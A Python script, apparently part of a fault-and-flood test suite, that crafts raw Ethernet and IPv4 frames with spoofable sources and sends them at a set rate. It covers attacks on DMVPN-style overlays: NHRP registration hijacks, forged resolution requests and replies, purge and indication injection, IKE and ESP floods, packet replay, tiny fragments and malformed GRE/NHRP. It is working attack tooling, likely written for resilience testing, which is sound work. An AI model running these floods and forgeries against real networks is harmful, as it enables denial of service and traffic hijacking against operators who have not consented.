#!/usr/bin/python3
"""An attacker on the internet bridge, for the fault and flood suite.

    attacker.py KIND --dst A.B.C.D [--src A.B.C.D | --src-net A.B.C.0/25]
                [--count N] [--rate PPS] [options]

Builds every byte itself, Ethernet included, and sends on an AF_PACKET
socket (--dev), so any source address and any broken header goes out as
built; the destination's MAC address comes from the kernel's ARP table
(a datagram to port 9 fills it first). Sends exactly --count packets at
--rate at most. Prints one line:
"sent N". Every kind is bounded by --count; nothing is read back.

Kinds (NHRP inside GRE with key --key, cleartext authentication
--auth, a Cisco-style SPI 1 password):
  nhrp-register   Registration Requests for random overlay addresses
                  (--overlay-net; with --sequential the --count
                  addresses after its address, each once), or for --overlay with
                  the unique flag and --holdtime (a hijack)
  nhrp-resolve    Resolution Requests for random addresses, or naming
                  --overlay as its source at our NBMA address (a forgery)
  nhrp-purge      Purge Requests for --overlay
  nhrp-indication Traffic Indications quoting a packet to --overlay
  nhrp-reply      Resolution Replies for --overlay at our NBMA address,
                  request IDs 1..count (a guessing attack)
  ike-init        IKE_SA_INIT with random SPIs, a real x25519 proposal
  esp-spi         ESP with random SPIs
  replay          the frames of --pcap, their IPv4 packets as captured
  gre-clear       cleartext GRE carrying an ICMP echo to --inner
  fragments       tiny IPv4 fragments (8 bytes, MF) of GRE, ESP and UDP
  malformed       IPv4 with bad lengths, bad GRE, garbage IKE and NHRP
"""

import argparse
import ipaddress
import os
import random
import socket
import struct
import sys
import time

GRE_PROTO_NHRP = 0x2001
GRE_PROTO_IPV4 = 0x0800


def csum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def ipv4(src, dst, proto, payload, ident=0, frag=0, ttl=64, tot_len=None):
    hdr = struct.pack('!BBHHHBBH4s4s', 0x45, 0, tot_len or 20 + len(payload), ident, frag,
                      ttl, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack('!H', csum(hdr)) + hdr[12:]
    return hdr + payload


def udp(sport, dport, payload):
    return struct.pack('!HHHH', sport, dport, 8 + len(payload), 0) + payload


def gre(proto, payload, key):
    return struct.pack('!HHI', 0x2000, proto, key) + payload


def a4(s):
    return socket.inet_aton(s)


def nhrp(op, src_nbma, src_proto, dst_proto, flags=0, reqid=0, cies=(), auth=None, word=None):
    """RFC 2332 packet: fixed header, mandatory part (word replaces
    flags + request ID for Traffic and Error Indications), CIEs, then the
    authentication extension (SPI 1, the password) and the end."""
    mand = struct.pack('!BBH', 4, 4, flags) + (word if word is not None else struct.pack('!I', reqid))
    mand += a4(src_nbma) + a4(src_proto) + a4(dst_proto)
    for c in cies:
        code, plen, hold, cnbma, cproto = c
        mand += struct.pack('!BBHHHBBBB', code, plen, 0, 1400, hold, 4 if cnbma else 0, 0,
                            4 if cproto else 0, 0)
        mand += (a4(cnbma) if cnbma else b'') + (a4(cproto) if cproto else b'')
    ext = b''
    if auth is not None:
        val = struct.pack('!I', 1) + auth
        ext += struct.pack('!HH', 0x8000 | 7, len(val)) + val
    ext += struct.pack('!HH', 0x8000, 0)
    total = 20 + len(mand) + len(ext)
    fixed = struct.pack('!HH5sBHHHBBBB', 1, 0x0800, b'\0' * 5, 255, total, 0, 20 + len(mand),
                        1, op, 4, 0)
    pkt = fixed + mand + ext
    return pkt[:12] + struct.pack('!H', csum(pkt)) + pkt[14:]


def rand_addr(net):
    n = ipaddress.ip_network(net)
    return str(n.network_address + random.randrange(1, n.num_addresses - 1))


def ike_sa_init(spi):
    """IKE_SA_INIT request: aes256gcm16-prfsha256-x25519, KE, Nonce."""
    t_encr = struct.pack('!BBHBBH', 3, 0, 12, 1, 0, 20) + struct.pack('!HH', 0x800e, 256)
    t_prf = struct.pack('!BBHBBH', 3, 0, 8, 2, 0, 5)
    t_dh = struct.pack('!BBHBBH', 0, 0, 8, 4, 0, 31)
    transforms = t_encr + t_prf + t_dh
    prop = struct.pack('!BBHBBBB', 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    sa = struct.pack('!BBH', 34, 0, 4 + len(prop)) + prop
    ke = struct.pack('!BBHHH', 40, 0, 8 + 32, 31, 0) + os.urandom(32)
    nonce = struct.pack('!BBH', 0, 0, 4 + 32) + os.urandom(32)
    body = sa + ke + nonce
    hdr = struct.pack('!QQBBBBII', spi, 0, 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return hdr + body


def pcap_ipv4(path):
    """The IPv4 packets of an Ethernet pcap (classic format)."""
    with open(path, 'rb') as f:
        data = f.read()
    magic = struct.unpack('<I', data[:4])[0]
    endian = '<' if magic in (0xa1b2c3d4, 0xa1b23c4d) else '>'
    off, out = 24, []
    while off + 16 <= len(data):
        incl = struct.unpack(endian + 'IIII', data[off:off + 16])[2]
        frame = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if len(frame) > 34 and frame[12:14] == b'\x08\x00':
            out.append(frame[14:])
    return out


def packets(a):
    """A generator of (destination, IPv4 packet) for the kind asked."""
    me = a.src
    auth = a.auth.encode() if a.auth is not None else None

    def src():
        return rand_addr(a.src_net) if a.src_net else me

    n = 0
    if a.kind == 'replay':
        caught = pcap_ipv4(a.pcap)
        if not caught:
            sys.exit('attacker: no IPv4 packet in ' + a.pcap)
    while n < a.count:
        n += 1
        s = src()
        k = a.kind
        if k == 'nhrp-register':
            if a.overlay:
                ov = a.overlay
            elif a.sequential:
                ov = str(ipaddress.ip_interface(a.overlay_net).ip + n)
            else:
                ov = rand_addr(a.overlay_net)
            flags = 0x8000 if a.overlay else 0
            body = nhrp(3, s, ov, a.nhs, flags, random.getrandbits(32),
                        [(0, 32, a.holdtime, None, None)], auth)
            pkt = ipv4(s, a.dst, 47, gre(GRE_PROTO_NHRP, body, a.key))
        elif k == 'nhrp-resolve':
            if a.overlay:  # a forgery: the victim's address at ours
                body = nhrp(1, s, a.overlay, a.target, 0x8000 | 0x1000, random.getrandbits(32),
                            [(0, 32, a.holdtime, None, None)], auth)
            else:
                body = nhrp(1, s, rand_addr(a.overlay_net), rand_addr(a.overlay_net), 0x8000,
                            random.getrandbits(32), [(0, 32, a.holdtime, None, None)], auth)
            pkt = ipv4(s, a.dst, 47, gre(GRE_PROTO_NHRP, body, a.key))
        elif k == 'nhrp-purge':
            body = nhrp(5, s, a.from_proto, a.dst_proto, 0, random.getrandbits(32),
                        [(0, 32, 0, None, a.overlay)], auth)
            pkt = ipv4(s, a.dst, 47, gre(GRE_PROTO_NHRP, body, a.key))
        elif k == 'nhrp-indication':
            quoted = ipv4(a.inner_src, a.overlay, 1, b'\x08\0\0\0\0\0\0\0')
            body = nhrp(8, s, a.from_proto, a.inner_src, 0, 0, (), auth,
                        word=struct.pack('!HH', 0, 0))
            # the quoted packet goes where CIEs would, before the extensions
            body = nhrp_with_payload(body, quoted)
            pkt = ipv4(s, a.dst, 47, gre(GRE_PROTO_NHRP, body, a.key))
        elif k == 'nhrp-reply':
            body = nhrp(2, a.from_nbma, a.from_proto, a.dst_proto, 0x4000 | 0x2000, n,
                        [(0, 32, a.holdtime, me, a.overlay)], auth)
            pkt = ipv4(s, a.dst, 47, gre(GRE_PROTO_NHRP, body, a.key))
        elif k == 'ike-init':
            pkt = ipv4(s, a.dst, 17, udp(500, 500, ike_sa_init(random.getrandbits(64))))
        elif k == 'esp-spi':
            esp = struct.pack('!II', random.getrandbits(32) | 0x100, n) + os.urandom(80)
            pkt = ipv4(s, a.dst, 50, esp)
        elif k == 'replay':
            pkt = caught[(n - 1) % len(caught)]
            yield socket.inet_ntoa(pkt[16:20]), pkt
            continue
        elif k == 'gre-clear':
            echo = struct.pack('!BBHHH', 8, 0, 0, 0x4242, n) + b'x' * 32
            echo = echo[:2] + struct.pack('!H', csum(echo)) + echo[4:]
            inner = ipv4(a.inner_src, a.inner, 1, echo)
            pkt = ipv4(s, a.dst, 47, gre(GRE_PROTO_IPV4, inner, a.key))
        elif k == 'fragments':
            proto = (47, 50, 17)[n % 3]
            pkt = ipv4(s, a.dst, proto, os.urandom(8), ident=n & 0xffff, frag=0x2000 | (n % 2))
        elif k == 'malformed':
            pkt = malformed(n, s, a.dst, a.key)
        else:
            sys.exit('attacker: unknown kind ' + k)
        yield a.dst, pkt


def nhrp_with_payload(pkt, payload):
    """Insert payload after the mandatory part (before the extensions),
    fixing ar$pktsz, ar$extoff and the checksum."""
    extoff = struct.unpack('!H', pkt[14:16])[0]
    pkt = pkt[:extoff] + payload + pkt[extoff:]
    pkt = pkt[:10] + struct.pack('!HHH', len(pkt), 0, extoff + len(payload)) + pkt[16:]
    return pkt[:12] + struct.pack('!H', csum(pkt)) + pkt[14:]


def malformed(n, s, dst, key):
    """One of several broken packets, in turn."""
    junk = os.urandom(random.randrange(1, 200))
    k = n % 8
    if k == 0:  # total length beyond the frame
        return ipv4(s, dst, 47, gre(GRE_PROTO_IPV4, junk, key), tot_len=1400)
    if k == 1:  # GRE with version 1, or routing bits
        return ipv4(s, dst, 47, struct.pack('!HH', 0x0001 | (n & 0x4000), GRE_PROTO_IPV4) + junk)
    if k == 2:  # GRE with the wrong key
        return ipv4(s, dst, 47, gre(GRE_PROTO_NHRP, junk, key + 1))
    if k == 3:  # NHRP that is garbage
        return ipv4(s, dst, 47, gre(GRE_PROTO_NHRP, junk, key))
    if k == 4:  # garbage IKE on 500 and 4500
        return ipv4(s, dst, 17, udp(500 if n & 16 else 4500, 500 if n & 16 else 4500, junk))
    if k == 5:  # an unknown protocol to us
        return ipv4(s, dst, 253, junk)
    if k == 6:  # oversized: a full 1500-byte GRE frame of garbage IPv4
        return ipv4(s, dst, 47, gre(GRE_PROTO_IPV4, os.urandom(1500 - 28), key))
    return ipv4(s, dst, 47, gre(0x6558, junk, key))  # GRE payload we do not carry


def mac_of(ip):
    """The MAC address of ip from the ARP table, asking the kernel to
    resolve it first (2 s at most)."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(40):
        with open('/proc/net/arp') as f:
            for line in f.read().splitlines()[1:]:
                w = line.split()
                if w[0] == ip and w[2] == '0x2':
                    return bytes.fromhex(w[3].replace(':', ''))
        if i % 10 == 0:
            probe.sendto(b'', (ip, 9))
        time.sleep(0.05)
    sys.exit('attacker: no ARP answer from ' + ip)


def main():
    p = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    p.add_argument('kind')
    p.add_argument('--dst', required=True)
    p.add_argument('--dev', default='eth0')
    p.add_argument('--src', default='192.0.2.66')
    p.add_argument('--src-net', help='a random source address from this network each packet')
    p.add_argument('--count', type=int, default=1000)
    p.add_argument('--rate', type=float, default=1000.0)
    p.add_argument('--key', type=int, default=42)
    p.add_argument('--auth', default=None)
    p.add_argument('--nhs', default='10.255.0.1')
    p.add_argument('--overlay', help='the victim overlay address')
    p.add_argument('--overlay-net', default='10.255.0.0/16')
    p.add_argument('--sequential', action='store_true',
                   help='nhrp-register: the addresses after --overlay-net\'s, in order')
    p.add_argument('--target', default='10.255.0.12', help='resolution target')
    p.add_argument('--holdtime', type=int, default=65535)
    p.add_argument('--from-proto', default='10.255.0.1', help='claimed source overlay address')
    p.add_argument('--from-nbma', default='192.0.2.1', help='claimed source NBMA address')
    p.add_argument('--dst-proto', default='10.255.0.12')
    p.add_argument('--inner', default='10.1.0.10')
    p.add_argument('--inner-src', default='10.2.0.10')
    p.add_argument('--pcap')
    a = p.parse_args()
    random.seed()

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((a.dev, 0))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    with open(f'/sys/class/net/{a.dev}/address') as f:
        own = bytes.fromhex(f.read().strip().replace(':', ''))
    macs = {}
    sent = errors = 0
    t0 = time.monotonic()
    for dst, pkt in packets(a):
        if dst not in macs:
            macs[dst] = mac_of(dst)
        due = t0 + sent / a.rate
        now = time.monotonic()
        if due > now:
            time.sleep(due - now)
        try:
            sock.send(macs[dst] + own + b'\x08\x00' + pkt)
            sent += 1
        except OSError:
            errors += 1
            if errors > a.count:
                break
    print(f'sent {sent}' + (f' (errors {errors})' if errors else ''))


if __name__ == '__main__':
    main()
